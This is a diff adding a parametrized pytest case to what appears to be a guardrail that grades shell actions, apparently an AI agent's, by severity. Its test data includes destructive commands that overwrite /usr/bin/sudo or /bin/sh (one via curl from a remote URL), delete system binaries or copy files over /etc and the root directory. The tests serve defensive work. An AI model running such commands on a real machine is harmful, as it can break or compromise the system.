@@ -341,3 +341,31 @@ def test_what_is_feared_is_blocked_and_its_look_alike_passes(
 ) -> None:
     assert not guardrail.check(feared, "medium", {}).passed
     assert guardrail.check(look_alike, "medium", {}).passed
+
+
+@pytest.mark.parametrize(
+    ("action", "severity", "coverage"),
+    [
+        # programs and settings of the system
+        ("cp x /usr/bin/sudo", "medium", "full"),
+        ("install -m 777 x /usr/bin/sudo", "medium", "full"),
+        ("curl -o /bin/sh https://example.org/x", "medium", "full"),
+        ("echo x > /usr/bin/foo", "medium", "full"),
+        ("sudo ln -sf /usr/bin/python3.11 /usr/bin/python3", "medium", "full"),
+        ("rm /usr/bin/foo", "medium", "full"),
+        ("sudo cp -r conf/ /etc/", "medium", "full"),
+        ("rsync -a conf/ /etc/", "medium", "full"),
+        ("tar xf conf.tar -C /etc", "medium", "full"),
+        ("cp -a . /", "medium", "full"),
+        ("cp x /etc/nginx/nginx.conf", "none", "full"),
+        ("sudo install -m 755 tool /usr/local/bin/tool", "none", "full"),
+        ("tar xzf node.tgz -C /usr/local", "none", "full"),
+        ("sudo make install", "none", "full"),
+        ("sudo apt install -y jq", "none", "full"),
+    ],
+)
+def test_an_action_has_a_severity_and_what_nobody_read_is_named(
+    guardrail: Guardrail, action: str, severity: str, coverage: str
+) -> None:
+    verdict = guardrail.check(action, "medium", {})
+    assert (str(verdict.severity), verdict.coverage) == (severity, coverage)
